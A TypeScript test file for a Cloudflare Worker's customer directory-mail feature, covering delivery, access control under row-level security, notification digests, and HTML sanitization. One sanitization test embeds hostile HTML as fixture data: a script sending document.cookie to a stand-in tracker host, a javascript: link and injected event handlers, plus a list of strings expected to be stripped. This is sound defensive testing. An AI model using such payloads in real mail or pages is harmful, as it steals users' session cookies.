/**
 * The listing mailbox is the customer's (issue 18), in workerd: raw mails
 * through the Worker's real `email` handler into real Postgres, the
 * customer's routes under row-level security, the notification outbox
 * (at once, and the daily digest) and the e-mail the provider is handed.
 */
import { env } from "cloudflare:workers";
import { createExecutionContext } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import worker from "../../src/index";
import { signUserToken } from "../../src/auth/user-token";
import { sql } from "drizzle-orm";
import { asClient } from "../../src/db/rls";
import { enqueueDirectoryMailDigests } from "../../src/notifications/directory-mail-digest";
import { drainNotifications } from "../../src/notifications/outbox";
import type { DirectoryMailMessage, DirectoryMailSummary } from "../../core/protocol/site";
import { mxAuthenticationResults } from "../../tools/farm/mail";
import { leasedJob } from "./support/coordinator-harness";
import { withDb } from "./support/db";
import { deliverMail } from "./support/mail";

interface Listing {
  submissionId: string;
  name: string;
  host: string;
  mailbox: string;
}

/** A started job whose two listings were submitted (the first awaits its verification mail); each knows its own mailbox. */
async function listedJob() {
  const { stub, released, mailboxes, ...seeded } = await leasedJob(2);
  const rows = await withDb(
    async ({ client }) =>
      (
        await client.query<{ id: string; name: string; website: string }>(
          "select s.id, d.name, d.website from directory_submissions s join directories d on d.id = s.directory_id where s.job_id = $1 order by d.name",
          [seeded.jobId],
        )
      ).rows,
  );
  const listings: Listing[] = rows.map((r) => ({ submissionId: r.id, name: r.name, host: new URL(r.website).hostname, mailbox: mailboxes.get(r.id)! }));
  for (const [i, l] of listings.entries()) await stub.report({ jobId: seeded.jobId, submissionId: l.submissionId, attempt: 1, outcome: i === 0 ? "awaiting_verification" : "submitted" });
  const token = await signUserToken(env, { userId: seeded.userId });
  const email = await withDb(async ({ client }) => (await client.query<{ email: string }>("select email from customers where id = $1", [seeded.customerId])).rows[0]!.email);
  return { ...seeded, released, listings, token, email };
}

/** A raw RFC 822 mail with our MX's SPF result for `from` on top (authenticated as its domain). */
function mail(opts: { from: string; to: string; subject: string; text?: string; html?: string; attachment?: { name: string; type: string; bytes: string } }): string {
  const boundary = `b-${crypto.randomUUID()}`;
  const parts: string[] = [];
  if (opts.text !== undefined) parts.push(`--${boundary}`, "Content-Type: text/plain; charset=utf-8", "", opts.text);
  if (opts.html !== undefined) parts.push(`--${boundary}`, "Content-Type: text/html; charset=utf-8", "", opts.html);
  if (opts.attachment)
    parts.push(
      `--${boundary}`,
      `Content-Type: ${opts.attachment.type}; name="${opts.attachment.name}"`,
      `Content-Disposition: attachment; filename="${opts.attachment.name}"`,
      "Content-Transfer-Encoding: base64",
      "",
      btoa(opts.attachment.bytes),
    );
  return (
    mxAuthenticationResults({ spf: opts.from }) +
    [
      `From: Someone <${opts.from}>`,
      `To: <${opts.to}>`,
      `Subject: ${opts.subject}`,
      `Message-ID: <${crypto.randomUUID()}@test>`,
      "MIME-Version: 1.0",
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
      "",
      ...parts,
      `--${boundary}--`,
      "",
    ].join("\r\n")
  );
}

async function get<T>(path: string, token: string): Promise<{ status: number; body: T }> {
  const res = await worker.fetch(new Request(`http://x${path}`, { headers: { authorization: `Bearer ${token}` } }), env, createExecutionContext());
  return { status: res.status, body: (await res.json()) as T };
}

async function put<T>(path: string, token: string, body: unknown): Promise<{ status: number; body: T }> {
  const res = await worker.fetch(
    new Request(`http://x${path}`, { method: "PUT", headers: { authorization: `Bearer ${token}`, "content-type": "application/json" }, body: JSON.stringify(body) }),
    env,
    createExecutionContext(),
  );
  return { status: res.status, body: (await res.json()) as T };
}

const listOf = async (jobId: string, token: string) => (await get<{ mails: DirectoryMailSummary[] }>(`/api/jobs/${jobId}/mail`, token)).body.mails;

const noticesOf = (customerId: string) =>
  withDb(
    async ({ client }) =>
      (
        await client.query<{ kind: string; dedupe_key: string; status: string; data: Record<string, unknown> }>(
          "select kind, dedupe_key, status, data from notifications where customer_id = $1 order by created_at",
          [customerId],
        )
      ).rows,
  );

/** A stand-in for the e-mail provider in Resend's wire format (as test/workers/notifications.test.ts). */
function fakeProvider() {
  const sent: { to: string; subject: string; text: string; html: string }[] = [];
  const fetcher = (async (input: RequestInfo | URL, init?: RequestInit) => {
    const body = (await new Request(input, init).json()) as { to: string[]; subject: string; text: string; html: string };
    sent.push({ to: body.to[0]!, subject: body.subject, text: body.text, html: body.html });
    return Response.json({ id: `email_${crypto.randomUUID()}` });
  }) as typeof fetch;
  return { fetcher, sent };
}

const EMAIL = { apiKey: "re_test_key", from: "DirectoryBolt <reports@directorybolt.test>", apiUrl: "https://email.test", publicUrl: "https://app.test" };

describe("directory mail", () => {
  it("a directory's question reaches the owner (portal and one at-once e-mail, however often it is delivered); staff keep it in the unmatched inbox", async () => {
    const job = await listedJob();
    const l = job.listings[1]!;
    const subject = `A visitor asked about your listing ${crypto.randomUUID()}`;
    const raw = mail({ from: `enquiries@${l.host}`, to: l.mailbox, subject, text: "Hello! Do you bake gluten-free bread?\nReply to jo@visitor.example\n" });
    expect(await deliverMail(`enquiries@${l.host}`, l.mailbox, raw)).toBeNull();
    // Redelivered (Email Routing retries): the same row, no second notice.
    expect(await deliverMail(`enquiries@${l.host}`, l.mailbox, raw)).toBeNull();

    const mails = await listOf(job.jobId, job.token);
    expect(mails).toHaveLength(1);
    expect(mails[0]).toMatchObject({ subject, kind: "message", directoryName: l.name, submissionId: l.submissionId, fromDirectory: true, notifiedBy: "immediate", attachmentCount: 0 });
    const one = await get<{ mail: DirectoryMailMessage }>(`/api/jobs/${job.jobId}/mail/${mails[0]!.id}`, job.token);
    expect(one.status).toBe(200);
    expect(one.body.mail.body).toBe("Hello! Do you bake gluten-free bread?\nReply to jo@visitor.example");

    const notices = await noticesOf(job.customerId);
    expect(notices).toEqual([expect.objectContaining({ kind: "directory_mail", status: "pending", dedupe_key: expect.stringMatching(/^directory_mail:[0-9a-f]{64}$/) })]);
    expect(notices[0]!.data).toMatchObject({ directoryName: l.name, subject, body: one.body.mail.body });
    // Nothing was queued to open: it is no verification.
    expect(job.released).toEqual([]);
    // Staff still see it in the unmatched inbox.
    const inbox = await withDb(async ({ client }) => (await client.query("select status from inbound_mails where envelope_to = $1", [l.mailbox])).rows);
    expect(inbox).toEqual([{ status: "unmatched" }]);

    // Sent through the outbox: to the customer, the text in it, escaped in the HTML part.
    const provider = fakeProvider();
    await withDb(({ client }) => drainNotifications(client, { ...EMAIL, fetch: provider.fetcher }, 500));
    const sent = provider.sent.filter((s) => s.to === job.email);
    expect(sent).toHaveLength(1);
    expect(sent[0]!.subject).toContain(l.name);
    expect(sent[0]!.text).toContain("Do you bake gluten-free bread?");
    expect(sent[0]!.text).toContain(`https://app.test/portal/jobs/${job.jobId}/mail`);
    await withDb(({ client }) => drainNotifications(client, { ...EMAIL, fetch: provider.fetcher }, 500));
    expect(provider.sent.filter((s) => s.to === job.email)).toHaveLength(1);
  });

  it("a verification mail still completes by itself and is shown as handled, with no e-mail to the customer", async () => {
    const job = await listedJob();
    const l = job.listings[0]!;
    const link = `https://${l.host}/verify?token=${crypto.randomUUID().replace(/-/g, "")}`;
    const raw = mail({ from: `no-reply@${l.host}`, to: l.mailbox, subject: "Confirm your listing", text: `Please confirm your listing:\n${link}\n` });
    expect(await deliverMail(`no-reply@${l.host}`, l.mailbox, raw)).toBeNull();
    expect(job.released).toEqual([{ jobId: job.jobId, submissionId: l.submissionId, attempt: 1, kind: "verify" }]);
    const mails = await listOf(job.jobId, job.token);
    expect(mails).toEqual([expect.objectContaining({ kind: "verification", notifiedBy: null, submissionId: l.submissionId })]);
    expect(await noticesOf(job.customerId)).toEqual([]);
  });

  it("never hands the customer a script, a style or a remote image: HTML becomes text, links inert, attachments only listed", async () => {
    const job = await listedJob();
    const l = job.listings[1]!;
    const html = [
      "<html><head><style>body{background:url(https://tracker.example/bg.png)}</style><script>alert('head')</script></head><body>",
      '<p>Your listing was <b>approved</b>.</p><img src="https://tracker.example/pixel.gif" width="1" height="1">',
      '<img src="https://cdn.example/logo.png" alt="Logo">',
      '<p onclick="steal()">See it <a href="https://' + l.host + '/listing/42" onmouseover="x()">here</a> or <a href="javascript:alert(1)">there</a>.</p>',
      "<script>fetch('https://tracker.example/?c='+document.cookie)</script><iframe src=\"https://tracker.example/frame\"></iframe>",
      "<p>5 &lt; 6 &amp; &lt;script&gt; is text</p></body></html>",
    ].join("\n");
    const raw = mail({ from: `team@${l.host}`, to: l.mailbox, subject: "Approved", html, attachment: { name: "invoice.pdf", type: "application/pdf", bytes: "%PDF-1.4 fake" } });
    await deliverMail(`team@${l.host}`, l.mailbox, raw);
    const [summary] = await listOf(job.jobId, job.token);
    const { body } = await get<{ mail: DirectoryMailMessage }>(`/api/jobs/${job.jobId}/mail/${summary!.id}`, job.token);
    const shown = body.mail.body;
    expect(shown).toContain("Your listing was approved.");
    expect(shown).toContain(`See it here (https://${l.host}/listing/42) or there.`);
    expect(shown).toContain("[image: Logo]");
    expect(shown).toContain("5 < 6 & <script> is text");
    for (const bad of ["tracker.example", "alert(", "steal()", "onclick", "javascript:", "<img", "<iframe", "<b>", "background", "cdn.example"]) expect(shown, bad).not.toContain(bad);
    expect(body.mail.attachments).toEqual([{ filename: "invoice.pdf", mimeType: "application/pdf", size: 13 }]);
    expect(JSON.stringify(body)).not.toContain(btoa("%PDF-1.4 fake"));
    // The e-mail carries the same text, escaped.
    const provider = fakeProvider();
    await withDb(({ client }) => drainNotifications(client, { ...EMAIL, fetch: provider.fetcher }, 500));
    const [sent] = provider.sent.filter((s) => s.to === job.email);
    expect(sent!.html).toContain("5 &lt; 6 &amp; &lt;script&gt; is text");
    for (const bad of ["tracker.example", "<script", "<img", "javascript:"]) expect(sent!.html, bad).not.toContain(bad);
    expect(sent!.text).toContain("invoice.pdf (application/pdf");
  });

  it("only the owner (and staff) read a job's mail; another customer gets 404s, and the old shared address is not the customer's", async () => {
    const a = await listedJob();
    const b = await listedJob();
    const l = a.listings[1]!;
    await deliverMail(`x@${l.host}`, l.mailbox, mail({ from: `x@${l.host}`, to: l.mailbox, subject: "For A only", text: "private" }));
    const shared = `job-${a.jobId}@${env.VERIFY_DOMAIN}`;
    await deliverMail("someone@elsewhere.example", shared, mail({ from: "someone@elsewhere.example", to: shared, subject: "To the shared address", text: "x" }));
    const [own] = await listOf(a.jobId, a.token);
    expect((await listOf(a.jobId, a.token)).map((m) => m.subject)).toEqual(["For A only"]);
    expect((await get(`/api/jobs/${a.jobId}/mail`, b.token)).status).toBe(404);
    expect((await get(`/api/jobs/${a.jobId}/mail/${own!.id}`, b.token)).status).toBe(404);
    // B's own job does not open A's mail either.
    expect((await get(`/api/jobs/${b.jobId}/mail/${own!.id}`, b.token)).status).toBe(404);
    expect(await listOf(b.jobId, b.token)).toEqual([]);
    const staff = await signUserToken(env, { userId: crypto.randomUUID(), staff: true });
    expect((await get(`/api/jobs/${a.jobId}/mail/${own!.id}`, staff)).status).toBe(200);
    // Row-level security alone, as Supabase clients read: B's claims see no row of A's.
    const read = (userId: string) =>
      withDb(({ db }) =>
        asClient(db, "authenticated", { sub: userId, role: "authenticated" }, async (tx) => (await tx.execute(sql`select id from directory_mails where job_id = ${a.jobId}::uuid`)).rows),
      );
    expect(await read(b.userId)).toEqual([]);
    expect(await read(a.userId)).toEqual([{ id: own!.id }]);
  });

  it("a daily customer gets no e-mail at once but one digest a day: a second run, or a second run that day, sends nothing again", async () => {
    const job = await listedJob();
    expect((await get<{ delivery: string }>("/api/me/directory-mail", job.token)).body).toEqual({ delivery: "immediate" });
    expect((await put<{ delivery: string }>("/api/me/directory-mail", job.token, { delivery: "daily" })).body).toEqual({ delivery: "daily" });
    expect((await put("/api/me/directory-mail", job.token, { delivery: "weekly" })).status).toBe(400);
    expect((await get<{ delivery: string }>("/api/me/directory-mail", job.token)).body).toEqual({ delivery: "daily" });
    const l = job.listings[1]!;
    for (const n of [1, 2]) await deliverMail(`lead@${l.host}`, l.mailbox, mail({ from: `lead@${l.host}`, to: l.mailbox, subject: `Lead ${n}`, text: `Question number ${n}` }));
    expect(await noticesOf(job.customerId)).toEqual([]);
    expect((await listOf(job.jobId, job.token)).map((m) => m.notifiedBy)).toEqual([null, null]);

    // Today's mails wait for tomorrow's digest.
    expect(await withDb(({ client }) => enqueueDirectoryMailDigests(client, new Date()))).toBeGreaterThanOrEqual(0);
    expect(await noticesOf(job.customerId)).toEqual([]);
    const tomorrow = new Date(Date.now() + 86_400_000);
    await withDb(({ client }) => enqueueDirectoryMailDigests(client, tomorrow));
    await withDb(async ({ client }) => {
      await enqueueDirectoryMailDigests(client, tomorrow);
      await Promise.all([enqueueDirectoryMailDigests(client, new Date(tomorrow.getTime() + 3_600_000)), withDb(({ client: c2 }) => enqueueDirectoryMailDigests(c2, tomorrow))]);
    });
    const notices = await noticesOf(job.customerId);
    expect(notices).toHaveLength(1);
    expect(notices[0]).toMatchObject({ kind: "directory_mail_digest", dedupe_key: `directory_mail_digest:${job.customerId}:${tomorrow.toISOString().slice(0, 10)}` });
    expect((notices[0]!.data.mails as { subject: string }[]).map((m) => m.subject)).toEqual(["Lead 1", "Lead 2"]);
    expect((await listOf(job.jobId, job.token)).map((m) => m.notifiedBy)).toEqual(["digest", "digest"]);
    // The day after: nothing new, nothing sent.
    await withDb(({ client }) => enqueueDirectoryMailDigests(client, new Date(tomorrow.getTime() + 86_400_000)));
    expect(await noticesOf(job.customerId)).toHaveLength(1);

    const provider = fakeProvider();
    await withDb(({ client }) => drainNotifications(client, { ...EMAIL, fetch: provider.fetcher }, 500));
    const sent = provider.sent.filter((s) => s.to === job.email);
    expect(sent).toHaveLength(1);
    expect(sent[0]!.subject).toBe("Mail from your directories: 2 mails");
    expect(sent[0]!.text).toContain("Question number 2");
  });

  it("a customer with no purchase has nothing to choose", async () => {
    const stranger = await signUserToken(env, { userId: crypto.randomUUID(), email: `${crypto.randomUUID()}@example.com` });
    expect((await get("/api/me/directory-mail", stranger)).body).toEqual({ delivery: "immediate" });
    expect((await put("/api/me/directory-mail", stranger, { delivery: "daily" })).status).toBe(404);
  });
});
